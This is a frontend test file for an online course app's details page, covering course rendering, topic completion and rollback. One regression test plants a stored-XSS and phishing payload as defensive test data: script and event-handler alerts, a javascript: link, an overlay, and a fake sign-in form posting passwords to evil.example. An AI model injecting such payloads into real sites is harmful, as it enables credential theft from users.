import { getApiClient } from '@atrium/api';
import { getCourseDetails, getDb } from '@atrium/mock-api';
import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import { renderAcademy } from '../test/render';
import { CourseDetailsPage } from './course-details-page';

/** The stored details of a course as the signed-in demo admin sees them, and the first section with a topic still open. */
function openTopicOf(courseId: number) {
  const details = getCourseDetails(getDb(), courseId);
  const sectionIndex = details?.content.findIndex((s) => s.topics.some((t) => !t.isCompleted)) ?? -1;
  const section = details?.content[sectionIndex];
  const topicIndex = section?.topics.findIndex((t) => !t.isCompleted) ?? -1;
  const topic = section?.topics[topicIndex];
  if (!details || !section || !topic) throw new Error(`course ${courseId} has no open topic`);
  const done = section.topics.filter((t) => t.isCompleted).length;
  const stored = () => getCourseDetails(getDb(), courseId)?.content[sectionIndex];
  return { section, topic, topicIndex, done, stored };
}

describe('@atrium/academy/CourseDetailsPage', () => {
  it('regression: each id opens its own course (every course showed "UI/UX Basic Fundamentals")', async () => {
    const [first, , third] = getDb().courses;
    renderAcademy(<CourseDetailsPage courseId={third?.id ?? 0} />);
    expect(await screen.findByRole('heading', { level: 1, name: third?.courseTitle })).toBeInTheDocument();
    expect(screen.getByText(third?.user ?? '')).toBeInTheDocument();
    expect(screen.queryByRole('heading', { level: 1, name: first?.courseTitle })).not.toBeInTheDocument();
    expect(screen.queryByText('UI/UX Basic Fundamentals')).not.toBeInTheDocument();
  });

  it('ticking a topic saves it through the API and updates the section status', async () => {
    const user = userEvent.setup();
    const { section, topic, topicIndex, done, stored } = openTopicOf(2);
    renderAcademy(<CourseDetailsPage courseId={2} />);
    const status = await screen.findByTestId(`section-status-${section.id}`);
    expect(status).toHaveTextContent(`${done} / ${section.topics.length}`);
    const box = screen.getByRole('checkbox', { name: topic.title });
    expect(box).not.toBeChecked();
    await user.click(box);
    await waitFor(() => expect(screen.getByTestId(`section-status-${section.id}`)).toHaveTextContent(`${done + 1} / ${section.topics.length}`));
    await waitFor(() => expect(stored()?.topics[topicIndex]?.isCompleted).toBe(true));
    expect(stored()?.status).toBe(`${done + 1}/${section.topics.length}`);
  });

  it('rolls the tick back when the server refuses it', async () => {
    const user = userEvent.setup();
    const { topic, topicIndex, stored } = openTopicOf(2);
    vi.spyOn(getApiClient(), 'setCourseTopicCompleted').mockRejectedValueOnce(new Error('offline'));
    renderAcademy(<CourseDetailsPage courseId={2} />);
    await user.click(await screen.findByRole('checkbox', { name: topic.title }));
    await waitFor(() => expect(screen.getByRole('checkbox', { name: topic.title })).not.toBeChecked());
    expect(stored()?.topics[topicIndex]?.isCompleted).toBe(false);
  });

  it('shows the instructor, the stats and the description of that course', async () => {
    const course = getDb().courses.find((c) => c.id === 4);
    renderAcademy(<CourseDetailsPage courseId={4} />);
    expect(await screen.findByText(course?.user ?? '')).toBeInTheDocument();
    expect(screen.getByText('By the numbers')).toBeInTheDocument();
    expect(screen.getByText(new Intl.NumberFormat('en').format(course?.userCount ?? -1))).toBeInTheDocument();
    expect(screen.getAllByText(course?.desc ?? '').length).toBeGreaterThan(0);
  });

  it('regression (issue 22): a stored description with a phishing form, a style overlay and scripts renders as plain text', async () => {
    const details = getDb().courseDetails.find((d) => d.courseId === 4);
    if (!details) throw new Error('course 4 has no details');
    details.description =
      '<div style="position:fixed;inset:0;z-index:9999"><p onclick="alert(1)">Session expired</p><script>alert(2)</script>' +
      '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
      '<img src=x onerror="alert(3)"><a href="javascript:alert(4)">x</a><iframe src="https://evil.example"></iframe></div><style>body{display:none}</style>';
    const { container } = renderAcademy(<CourseDetailsPage courseId={4} />);
    expect(await screen.findByText('Session expired')).toBeInTheDocument();
    expect(container.querySelector('form, input[type="password"], button[formaction], iframe, script, style:not([data-mantine-styles]), [style*="fixed"], [onclick], [onerror]')).toBeNull();
    expect(container.innerHTML).not.toMatch(/javascript:|evil\.example/);
  });
});
